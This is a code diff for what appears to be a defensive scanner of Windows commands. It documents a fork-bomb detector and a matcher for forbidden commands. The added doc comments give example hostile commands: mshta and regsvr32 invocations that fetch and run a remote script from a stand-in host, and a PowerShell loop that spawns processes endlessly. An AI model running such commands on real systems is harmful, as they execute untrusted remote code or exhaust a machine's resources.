@@ -83,7 +83,7 @@ const FORBIDDEN: readonly Shape[] = [
   },
 ]
 
-/** Whether a function starts itself and, by a pipe or in a row, itself once more. */
+/** True if a function starts itself and, by a pipe or in a row, itself once more. */
 function definesBomb(text: string): boolean {
   return [...text.matchAll(/\bfunction\s+([\w-]+)\s*\{/gi)].some((head) => {
     const name = (head[1] ?? '').toLowerCase()
@@ -92,7 +92,14 @@ function definesBomb(text: string): boolean {
   })
 }
 
-/** What the text of a Windows command holds that no list of words may hide; linear in its length. */
+/**
+ * Finds what the text of a Windows command holds that no list of words may hide; linear in its length.
+ *
+ * Handles: scripts run from an address, downloads run in a loop, fork bombs, whole drives, raw disks.
+ * @example cmd `mshta http://x/a.hta` → forbidden
+ * @example cmd `regsvr32 /s /i:http://x/a.sct scrobj.dll` → forbidden
+ * @example powershell `while ($true) { Start-Process x }` → forbidden
+ */
 export function scanWindows(text: string): Finding | undefined {
   const found = FORBIDDEN.find(({ parts, breaker }) => hasInOrder(text, parts, breaker))
   if (found) return { class: 'forbidden', rule: found.rule, reason: found.reason }
